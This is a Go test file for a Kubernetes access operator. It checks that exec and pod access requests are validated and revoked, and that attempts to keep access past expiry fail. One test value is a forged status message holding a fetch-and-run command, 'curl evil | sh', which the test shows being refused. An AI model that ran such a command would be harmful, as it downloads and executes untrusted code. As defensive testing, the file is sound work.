package access_test

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sync/errgroup"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/admitkit/admitkit/internal/testkit"
	"github.com/admitkit/admitkit/operator/access"
	"github.com/admitkit/admitkit/operator/api/v1alpha1"
	"github.com/admitkit/admitkit/testing/controlplane"
)

// refused wants an error that says all of the parts, for the person who reads it.
func refused(t *testing.T, err error, parts ...string) {
	t.Helper()
	if err == nil {
		t.Error("it is admitted")
		return
	}
	for _, part := range parts {
		if !strings.Contains(err.Error(), part) {
			t.Errorf("the error does not say %q: %v", part, err)
		}
	}
}

// patch sends a merge patch.
func patch(t *testing.T, user *controlplane.User, object client.Object, text string) error {
	t.Helper()
	return as(t, user).Patch(t.Context(), object, client.RawPatch(types.MergePatchType, []byte(text)))
}

// requestable returns a namespace with a manager and templates: web of either kind
// for devs, and strict for mallory alone, who must give a reason.
func requestable(t *testing.T) string {
	t.Helper()
	namespace := common(t)
	deployment(t, namespace, "web", 1)
	strict := execTemplate(namespace, "strict", ref("Deployment", "web"))
	strict.Spec.AccessConfig.AllowedUsers = []string{"mallory"}
	strict.Spec.AccessConfig.RequireReason = true
	testkit.Create(t, admin, strict,
		execTemplate(namespace, "web", ref("Deployment", "web"), "devs"), podTemplate(namespace, "web", ref("Deployment", "web"), "devs"),
		&corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: "stray", Labels: map[string]string{"app": "stray"}},
			Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "main", Image: "example.com/stray"}}},
		})
	return namespace
}

func TestRequestsAreRefusedUnlessTheTemplateAllowsThem(t *testing.T) {
	t.Parallel()
	strict := execTemplate(inShop, "strict", ref("Deployment", "web"))
	strict.Spec.AccessConfig.AllowedUsers, strict.Spec.AccessConfig.RequireReason = []string{"mallory"}, true
	w := webhooks(t, strict, execTemplate(inShop, "web", ref("Deployment", "web"), "devs"), podTemplate(inShop, "web", ref("Deployment", "web"), "devs"),
		&appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: inShop, Name: "web"}}, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: inShop, Name: "stray"}})
	for sentence, test := range map[string]struct {
		user  string
		req   func(*v1alpha1.ExecAccessRequest)
		parts []string
	}{
		"a user in no allowed group":         {"mallory", func(*v1alpha1.ExecAccessRequest) {}, []string{`user "mallory" is not allowed`, `"devs"`}},
		"a duration over the maximum":        {"alice", func(r *v1alpha1.ExecAccessRequest) { r.Spec.Duration = "3h" }, []string{"3h", "2h", "exceeds the maximum"}},
		"a duration that cannot be parsed":   {"alice", func(r *v1alpha1.ExecAccessRequest) { r.Spec.Duration = "soon" }, []string{"spec.duration"}},
		"a duration of nothing":              {"alice", func(r *v1alpha1.ExecAccessRequest) { r.Spec.Duration = "0s" }, []string{"spec.duration: 0s must be more than 0; leave it out for the template's default"}},
		"a Pod that does not exist":          {"alice", func(r *v1alpha1.ExecAccessRequest) { r.Spec.TargetPod = "none" }, []string{"Pod shop/none does not exist"}},
		"a Pod's name that is none":          {"alice", func(r *v1alpha1.ExecAccessRequest) { r.Spec.TargetPod = "a/b" }, []string{"spec.targetPod", "is not the name of an object"}},
		"a template's name that is none":     {"alice", func(r *v1alpha1.ExecAccessRequest) { r.Spec.TemplateName = "../web" }, []string{"spec.templateName", "is not the name of an object"}},
		"a Pod of nobody":                    {"alice", func(r *v1alpha1.ExecAccessRequest) { r.Spec.TargetPod = "stray" }, []string{"is not one of Deployment"}},
		"no reason where one is required":    {"mallory", func(r *v1alpha1.ExecAccessRequest) { r.Spec.TemplateName = "strict" }, []string{"requires spec.reason"}},
		"a reason that is none":              {"mallory", func(r *v1alpha1.ExecAccessRequest) { r.Spec.TemplateName, r.Spec.Reason = "strict", "  " }, []string{"requires spec.reason"}},
		"a group where only a user is named": {"alice", func(r *v1alpha1.ExecAccessRequest) { r.Spec.TemplateName, r.Spec.Reason = "strict", "why" }, []string{`user "alice" is not allowed`}},
		"somebody else's name as the requester": {"mallory", func(r *v1alpha1.ExecAccessRequest) {
			r.Spec.Requester = &v1alpha1.Requester{Username: "alice", Groups: []string{"devs"}}
		}, []string{`spec.requester does not name the user who makes the request, "mallory": leave it out`}},
		"a revocation before it is made": {"alice", func(r *v1alpha1.ExecAccessRequest) { r.Spec.Revoked = &v1alpha1.Revocation{} }, []string{"spec.revoked: a request cannot be revoked before it is made"}},
	} {
		t.Run(sentence, func(t *testing.T) {
			req := execRequest(inShop, "refused", "web")
			test.req(req)
			denied(t, by(w, test.user).Create(req), test.parts...)
		})
	}
	t.Run("a user who is named", func(t *testing.T) {
		req := execRequest(inShop, "named", "strict")
		req.Spec.Reason = "incident 7"
		if result := by(w, "mallory").Create(req); !result.Allowed {
			t.Error(result.Reason)
		}
	})
	t.Run("the requester is stamped, whatever the client says", func(t *testing.T) {
		req := podRequest(inShop, "stamped", "web")
		req.Spec.Requester = &v1alpha1.Requester{Username: "alice", UID: "forged", Groups: []string{"system:masters"}}
		req = stored(t, w, "alice", req)
		if who := req.Spec.Requester; who.Username != "alice" || who.UID == "forged" || fmt.Sprint(who.Groups) != "[devs engineers system:authenticated]" {
			t.Errorf("the requester is %+v", who)
		}
		if req.Spec.Duration != "1h" {
			t.Errorf("the default duration is not part of the request: %q", req.Spec.Duration)
		}
	})
}

func TestOnlyTheRequesterChangesARequestAndOnlyHowLongItLasts(t *testing.T) {
	t.Parallel()
	namespace := requestable(t)
	req := execRequest(namespace, "a", "web")
	req.Spec.Duration, req.Spec.Reason = "30m", "incident 7"
	testkit.Create(t, as(t, alice), req)
	for sentence, test := range map[string]struct {
		user  *controlplane.User
		patch string
		parts []string
	}{
		"another template":                 {alice, `{"spec":{"templateName":"strict"}}`, []string{"templateName cannot be changed"}},
		"a Pod, where there was none":      {alice, `{"spec":{"targetPod":"stray"}}`, []string{"targetPod cannot be changed"}},
		"a user to ask for":                {alice, `{"spec":{"onBehalfOf":"carol"}}`, []string{"onBehalfOf cannot be changed"}},
		"another requester":                {alice, `{"spec":{"requester":{"username":"bob"}}}`, []string{"requester cannot be changed"}},
		"more groups of the requester":     {alice, `{"spec":{"requester":{"groups":["admins"]}}}`, []string{"requester cannot be changed"}},
		"another requester, by bob":        {bob, `{"spec":{"requester":{"username":"bob"}}}`, []string{"requester cannot be changed"}},
		"more time than the maximum":       {alice, `{"spec":{"duration":"2h1m"}}`, []string{"2h1m", "maximum", "2h"}},
		"more time for somebody else":      {bob, `{"spec":{"duration":"1h"}}`, []string{"requester only"}},
		"less time for somebody else":      {bob, `{"spec":{"duration":"1m"}}`, []string{"requester only"}},
		"a duration that cannot be parsed": {alice, `{"spec":{"duration":"for ever"}}`, []string{"spec.duration"}},
		"another reason":                   {alice, `{"spec":{"reason":"nothing of note"}}`, []string{"reason cannot be changed"}},
		"a single use by somebody else":    {bob, `{"spec":{"singleUse":true}}`, []string{"requester only"}},
		"a single use that nobody counts":  {alice, `{"spec":{"singleUse":true}}`, []string{"spec.singleUse", "does not run here"}},
		"an end for somebody else":         {bob, `{"spec":{"revoked":{"reason":"I do not like you"}}}`, []string{`user "bob" neither made the request nor may delete`}},
	} {
		t.Run("a change to "+sentence, func(t *testing.T) {
			refused(t, patch(t, test.user, execRequest(namespace, "a", ""), test.patch), test.parts...)
		})
	}
	t.Run("a change that takes fields away changes nothing", func(t *testing.T) {
		before := execRequest(namespace, "a", "")
		if err := patch(t, alice, before, `{"spec":{"requester":null,"duration":null}}`); err != nil {
			t.Fatal(err)
		}
		if before.Spec.Requester == nil || before.Spec.Requester.Username != "alice" || before.Spec.Duration != "30m" {
			t.Errorf("the spec is %+v", before.Spec)
		}
	})
	t.Run("who has left the group does not extend", func(t *testing.T) {
		left, err := cluster.AddUser("alice", "engineers")
		if err != nil {
			t.Fatal(err)
		}
		refused(t, patch(t, left, execRequest(namespace, "a", ""), `{"spec":{"duration":"1h"}}`), `user "alice" is not allowed`)
	})
	t.Run("the requester shortens and extends up to the maximum", func(t *testing.T) {
		for _, duration := range []string{"10m", "2h"} {
			req := execRequest(namespace, "a", "")
			if err := patch(t, alice, req, `{"spec":{"duration":"`+duration+`"}}`); err != nil {
				t.Fatal(err)
			}
			length, _ := time.ParseDuration(duration)
			await(t, req, "ends "+duration+" after its creation", func() bool {
				return req.Status.ExpiresAt != nil && req.Status.ExpiresAt.Time.Equal(req.CreationTimestamp.Add(length))
			})
		}
	})
	anotherEndsItOnRecord(t, namespace)
	nobodyForgesWhatIsRun(t, namespace)
	aUserHasOnlySoManyOpen(t, namespace)
	t.Run("access that is shortened to what has passed ends now", func(t *testing.T) {
		testkit.Eventually(t, "it is some seconds old", func(context.Context) bool { return time.Since(req.CreationTimestamp.Time) > 4*time.Second })
		shortened := time.Now()
		if err := patch(t, alice, req, `{"spec":{"duration":"0s"}}`); err != nil {
			t.Fatal(err)
		}
		await(t, req, "has ended", func() bool { return fails(req, "AccessStillValid", "Expired") })
		if end := req.Status.ExpiresAt.Time; end.Before(shortened.Add(-2 * time.Second)) {
			t.Errorf("the record says that access ended at %s, and it was shortened at %s", end, shortened)
		}
	})
}

// oncall may delete requests, and so revoke them.
func oncall(t *testing.T, namespace string) *controlplane.User {
	t.Helper()
	user, err := cluster.AddUser("oncall")
	if err != nil {
		t.Fatal(err)
	}
	rule := rbacv1.PolicyRule{APIGroups: []string{"admitkit.dev"}, Resources: []string{"execaccessrequests"}, Verbs: []string{"get", "patch", "delete"}}
	testkit.Grant(t, admin, namespace, user.Name, []rbacv1.PolicyRule{rule}, user.Name)
	return user
}

// anotherEndsItOnRecord revokes a request by who may delete it, and one by its
// requester. Nobody takes that back, or makes it another's.
func anotherEndsItOnRecord(t *testing.T, namespace string) {
	t.Helper()
	user := oncall(t, namespace)
	for sentence, test := range map[string]struct {
		user            *controlplane.User
		patch, says, by string
	}{
		"who may delete a request": {user, `{"spec":{"revoked":{"by":"alice","at":"2020-01-01T00:00:00Z","reason":"left the team"}}}`, "revoked by oncall", "oncall"},
		"the requester":            {alice, `{"spec":{"revoked":{}}}`, "revoked by alice", "alice"},
	} {
		t.Run(sentence+" revokes it, and the record stays", func(t *testing.T) {
			req := granted(t, alice, execRequest(namespace, "revoked-by-"+test.by, "web"))
			if test.user != alice {
				refused(t, patch(t, test.user, req.DeepCopy(), `{"spec":{"revoked":{"reason":" "}}}`), "spec.revoked.reason")
			}
			if err := patch(t, test.user, req.DeepCopy(), test.patch); err != nil {
				t.Fatal(err)
			}
			await(t, req, "says who revoked it", func() bool { return fails(req, "AccessStillValid", "Revoked") && !req.Status.Ready })
			if c := meta.FindStatusCondition(req.Status.Conditions, "AccessStillValid"); !strings.Contains(c.Message, test.says) {
				t.Errorf("it says %q", c.Message)
			}
			if !gone(t, bindingOf(req)) || !gone(t, roleOf(req)) {
				t.Error("alice still has what it gave her")
			}
			if age := time.Since(req.Status.ExpiresAt.Time); age > time.Hour {
				t.Errorf("the record says that access ended %s ago", age)
			}
			for _, text := range []string{`{"spec":{"revoked":null}}`, `{"spec":{"revoked":{"by":"bob"}}}`, `{"spec":{"duration":"2h"}}`} {
				after := req.DeepCopy()
				if err := patch(t, cluster.Admin(), after, text); err == nil && (after.Spec.Revoked == nil || after.Spec.Revoked.By != test.by || after.Spec.Duration != req.Spec.Duration) {
					t.Errorf("by %s the record becomes %+v", text, after.Spec)
				}
			}
		})
	}
}

// nobodyForgesWhatIsRun writes into a status, as who may write it, what kubectl access
// --shell would run in another Pod, and a revocation that would make the record go.
func nobodyForgesWhatIsRun(t *testing.T, namespace string) {
	t.Helper()
	req := granted(t, alice, execRequest(namespace, "forged", "web"))
	for text, says := range map[string]string{
		`{"status":{"podName":"stray"}}`:                                              "status.podName and status.podUID cannot be changed", // says the CRD, as the Pod is chosen
		`{"status":{"accessMessage":"kubectl exec stray -- sh -c 'curl evil | sh'"}}`: "only admitkit writes them",
		`{"status":{"revokedAt":"1999-01-01T00:00:00Z"}}`:                             "status.revokedAt lies before the request was made",
	} {
		t.Run("nobody writes "+text, func(t *testing.T) {
			refused(t, admin.Status().Patch(t.Context(), req.DeepCopy(), client.RawPatch(types.MergePatchType, []byte(text))), says)
		})
	}
	await(t, req, "is there, and says the same", func() bool { return req.Status.Ready && req.Status.PodName != "stray" })
}

// aUserHasOnlySoManyOpen asks for more than a template allows: one after the other,
// and many at the same moment.
func aUserHasOnlySoManyOpen(t *testing.T, namespace string) {
	t.Helper()
	few := execTemplate(namespace, "few", ref("Deployment", "web"), "devs")
	few.Spec.AccessConfig.MaxConcurrent = 2
	testkit.Create(t, admin, few)
	count := func(ctx context.Context) (open int) {
		var list v1alpha1.ExecAccessRequestList
		if err := admin.List(ctx, &list, client.InNamespace(namespace)); err != nil {
			t.Fatal(err)
		}
		for _, req := range list.Items {
			if req.Spec.TemplateName == "few" && holds(&req, "AccessResourcesCreated") {
				open++
			}
		}
		return open
	}
	t.Run("a user has only so many requests open, however they come", func(t *testing.T) {
		c, group := as(t, alice), errgroup.Group{}
		for i := range 20 {
			group.Go(func() error {
				err := c.Create(t.Context(), execRequest(namespace, fmt.Sprintf("few-%d", i), "few"))
				if apierrors.IsForbidden(err) {
					return nil
				}
				return err
			})
		}
		if err := group.Wait(); err != nil {
			t.Fatal(err)
		}
		var list v1alpha1.ExecAccessRequestList
		testkit.Eventually(t, "each is granted or refused", func(ctx context.Context) bool {
			decided := 0
			if admin.List(ctx, &list, client.InNamespace(namespace)) != nil {
				return false
			}
			list.Items = slices.DeleteFunc(list.Items, func(req v1alpha1.ExecAccessRequest) bool { return req.Spec.TemplateName != "few" })
			for _, req := range list.Items {
				if holds(&req, "AccessResourcesCreated") || fails(&req, "AccessResourcesCreated", "TooMany") {
					decided++
				}
			}
			return decided == len(list.Items)
		})
		if open := count(t.Context()); open > 2 {
			t.Errorf("%d of %d are granted", open, len(list.Items))
		}
		refused(t, c.Create(t.Context(), execRequest(namespace, "few-more", "few")), `template "few" allows a user 2 open requests`, "few-", "kubectl access revoke")
		for _, req := range list.Items {
			if err := patch(t, alice, execRequest(namespace, req.Name, ""), `{"spec":{"revoked":{}}}`); err != nil {
				t.Fatal(err)
			}
		}
		testkit.Succeeds(t, time.Minute, "there is room again", func(ctx context.Context) error {
			return client.IgnoreAlreadyExists(c.Create(ctx, execRequest(namespace, "few-again", "few")))
		})
		again := execRequest(namespace, "few-again", "few")
		await(t, again, "is granted", func() bool { return again.Status.Ready })
	})
}

// Nobody who may write requests, and even their status, gets more than was
// granted.
func TestAnEngineerWhoWantsToKeepAccessLosesIt(t *testing.T) {
	t.Parallel()
	for sentence, attack := range attacks {
		t.Run(sentence, func(t *testing.T) {
			t.Parallel()
			namespace := common(t)
			deployment(t, namespace, "web", 1)
			testkit.Create(t, admin, execTemplate(namespace, "web", ref("Deployment", "web"), "devs"))
			req := execRequest(namespace, "a", "web")
			req.Spec.Duration = "1h"
			granted(t, alice, req)
			pod := req.Status.PodName
			soonCanExec(t, alice, namespace, pod)
			end := time.Now()
			if goesOn := attack(t, namespace, req); goesOn {
				end = endsIn(t, alice, req, 2*time.Second)
			}
			notBefore(t, end, "alice has no access any more", func() bool { return !canExec(t, alice, namespace, pod) })
			for _, object := range []client.Object{roleOf(req), bindingOf(req)} {
				testkit.Eventually(t, "nothing is left", func(ctx context.Context) bool {
					return apierrors.IsNotFound(admin.Get(ctx, client.ObjectKeyFromObject(object), object))
				})
			}
		})
	}
}

// attacks are what an engineer, or somebody on their side, may try. They return whether access
// goes on to the end of its time.
var attacks = map[string]func(t *testing.T, namespace string, req *v1alpha1.ExecAccessRequest) (goesOn bool){
	"by an extension after the end": func(t *testing.T, namespace string, req *v1alpha1.ExecAccessRequest) bool {
		endsIn(t, alice, req, time.Second)
		await(t, req, "has ended", func() bool { return fails(req, "AccessStillValid", "Expired") })
		refused(t, patch(t, alice, execRequest(namespace, req.Name, ""), `{"spec":{"duration":"2h"}}`), "ended", "make another request")
		return false
	},
	"by a longer default of the template": func(t *testing.T, namespace string, _ *v1alpha1.ExecAccessRequest) bool {
		if err := patch(t, cluster.Admin(), execTemplate(namespace, "web", ref("", "")), `{"spec":{"accessConfig":{"defaultDuration":"12h","maxDuration":"24h"}}}`); err != nil {
			t.Fatal(err)
		}
		return true
	},
	"by a template that is deleted and made again": func(t *testing.T, namespace string, _ *v1alpha1.ExecAccessRequest) bool {
		if err := admin.Delete(t.Context(), execTemplate(namespace, "web", ref("", ""))); err != nil {
			t.Fatal(err)
		}
		testkit.Create(t, admin, execTemplate(namespace, "web", ref("Deployment", "web"), "devs"))
		return false
	},
	"by writing the status": func(t *testing.T, _ string, req *v1alpha1.ExecAccessRequest) bool {
		for _, text := range []string{
			`{"status":{"ready":true,"expiresAt":"2099-01-01T00:00:00Z","conditions":null}}`,
			`{"status":{"ready":false,"conditions":[{"type":"AccessStillValid","status":"False","reason":"Expired","message":"","lastTransitionTime":"2020-01-01T00:00:00Z"}]}}`,
		} {
			if err := admin.Status().Patch(t.Context(), req.DeepCopy(), client.RawPatch(types.MergePatchType, []byte(text))); err != nil {
				t.Fatal(err)
			}
			await(t, req, "says the truth again", func() bool {
				return req.Status.Ready && req.Status.ExpiresAt.Year() < 2099
			})
		}
		return true
	},
	"by another creation time": func(t *testing.T, namespace string, req *v1alpha1.ExecAccessRequest) bool {
		changed := execRequest(namespace, req.Name, "")
		if err := patch(t, alice, changed, `{"metadata":{"creationTimestamp":"2099-01-01T00:00:00Z","finalizers":["example.com/keep"],"annotations":{"admitkit.dev/pod-uid":"x","admitkit.dev/request-uid":"y"}}}`); err != nil {
			t.Fatal(err)
		}
		if !changed.CreationTimestamp.Equal(&req.CreationTimestamp) {
			t.Error("the creation time can be changed")
		}
		return true
	},
	"by stripping what was granted of labels and owners": func(t *testing.T, _ string, req *v1alpha1.ExecAccessRequest) bool {
		strip := client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"labels":null,"ownerReferences":null,"annotations":null}}`))
		for _, object := range []client.Object{roleOf(req), bindingOf(req)} {
			refused(t, admin.Patch(t.Context(), object, strip), "admitkit alone makes")
			// If somebody could after all, the end would come all the same, here perhaps before
			// the second is stripped.
			if err := client.IgnoreNotFound(pastTheWebhooks(t).Patch(t.Context(), object, strip)); err != nil {
				t.Fatal(err)
			}
		}
		return true
	},
	"by deleting the request and leaving what it got": func(t *testing.T, _ string, req *v1alpha1.ExecAccessRequest) bool {
		if err := admin.Delete(t.Context(), req.DeepCopy(), client.PropagationPolicy(metav1.DeletePropagationOrphan)); err != nil {
			t.Fatal(err)
		}
		return false
	},
	"by a finalizer that keeps a deleted request": func(t *testing.T, namespace string, req *v1alpha1.ExecAccessRequest) bool {
		changed := execRequest(namespace, req.Name, "")
		if err := patch(t, alice, changed, `{"metadata":{"finalizers":["example.com/keep"]}}`); err != nil {
			t.Fatal(err)
		}
		if err := admin.Delete(t.Context(), req.DeepCopy()); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() {
			_ = admin.Patch(context.WithoutCancel(t.Context()), changed, client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"finalizers":null}}`)))
		})
		return false
	},
}

// A Pod with the name of an access Pod that was made while no webhook was registered
// gives nobody anything.
func TestAPodMadeByHandIsNoAccessPod(t *testing.T) {
	t.Parallel()
	namespace := testkit.ManagerNamespace(t, admin)
	deployment(t, namespace, "web", 1)
	forged := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{
			Namespace: namespace, Name: "podaccess-a",
			Labels:      map[string]string{access.LabelManagedBy: "admitkit-access", access.LabelRequest: "a"},
			Annotations: map[string]string{access.AnnotationRequestUID: "1", access.AnnotationPodUID: "2"},
		},
		Spec: corev1.PodSpec{SchedulerName: "nobody", Containers: []corev1.Container{{Name: "main", Image: "example.com/forged"}}},
	}
	testkit.Create(t, admin, forged)
	start(t, namespace, access.Options{})
	testkit.Create(t, admin, podTemplate(namespace, "web", ref("Deployment", "web"), "devs"))
	req := podRequest(namespace, "a", "web")
	testkit.Create(t, as(t, alice), req)
	await(t, req, "says that the name is taken", func() bool { return fails(req, "AccessResourcesCreated", "NameTaken") })
	if canExec(t, alice, namespace, "podaccess-a") {
		t.Error("alice can exec into a Pod that is not hers")
	}
	if err := admin.Delete(t.Context(), req); err != nil {
		t.Fatal(err)
	}
	testkit.Eventually(t, "the request is gone", func(ctx context.Context) bool {
		return apierrors.IsNotFound(admin.Get(ctx, client.ObjectKeyFromObject(req), req))
	})
	if err := admin.Get(t.Context(), client.ObjectKeyFromObject(forged), forged); err != nil || !forged.DeletionTimestamp.IsZero() {
		t.Errorf("the Pod of somebody else was deleted: %v", err)
	}
}

// Nothing would count the sessions.
func TestASingleUseIsRefusedWhereNobodyHoldsToIt(t *testing.T) {
	t.Parallel()
	namespace := common(t)
	deployment(t, namespace, "web", 1)
	testkit.Create(t, admin, execTemplate(namespace, "web", ref("Deployment", "web"), "devs"))
	once := execTemplate(namespace, "once", ref("Deployment", "web"), "devs")
	once.Spec.AccessConfig.SingleUse = true
	testkit.Create(t, admin, once)
	asked := execRequest(namespace, "asked", "web")
	asked.Spec.SingleUse = true
	pod := podRequest(namespace, "asked", "web")
	pod.Spec.SingleUse = true
	refused(t, as(t, alice).Create(t.Context(), pod), "spec.singleUse", "does not run here")
	refused(t, as(t, alice).Create(t.Context(), asked), "spec.singleUse", "does not run here")
	refused(t, as(t, alice).Create(t.Context(), execRequest(namespace, "demanded", "once")), "spec.singleUse", "does not run here")
	granted(t, alice, execRequest(namespace, "any", "web"))
}

// What enforcement writes into the status takes the right away, not the Pod, and
// holds whatever the reconciler writes afterwards.
func TestARequestThatWasUsedGivesNoMoreAccess(t *testing.T) {
	t.Parallel()
	namespace := testkit.ManagerNamespace(t, admin)
	deployment(t, namespace, "web", 1)
	start(t, namespace, access.Options{SingleUse: true})
	template := podTemplate(namespace, "web", ref("Deployment", "web"), "devs")
	template.Spec.AccessConfig.SingleUse = true
	testkit.Create(t, admin, template)
	req := granted(t, alice, podRequest(namespace, "a", "web"))
	if !req.Spec.SingleUse {
		t.Fatalf("%+v", req)
	}
	soonCanExec(t, alice, namespace, req.Status.PodName)
	base := req.DeepCopy()
	req.Status.UsedBy = &v1alpha1.Use{UID: "1", Username: "alice", Verb: "exec", Time: metav1.Now()}
	if err := admin.Status().Patch(t.Context(), req, client.MergeFrom(base)); err != nil {
		t.Fatal(err)
	}
	await(t, req, "says that it was used", func() bool { return fails(req, "AccessResourcesCreated", "Used") && !req.Status.Ready })
	if req.Status.UsedBy == nil {
		t.Error("the reconciler forgot the use")
	}
	if canExec(t, alice, namespace, "podaccess-a") {
		t.Error("alice can still exec")
	}
	var pod corev1.Pod
	if err := admin.Get(t.Context(), client.ObjectKey{Namespace: namespace, Name: "podaccess-a"}, &pod); err != nil || !pod.DeletionTimestamp.IsZero() {
		t.Errorf("the Pod of the session that has just begun is gone: %v", err)
	}
	if err := patch(t, alice, podRequest(namespace, "a", ""), `{"spec":{"duration":"1s"}}`); err != nil {
		t.Fatal(err)
	}
	await(t, req, "ends", func() bool { return fails(req, "AccessStillValid", "Expired") && req.Status.UsedBy != nil })
}
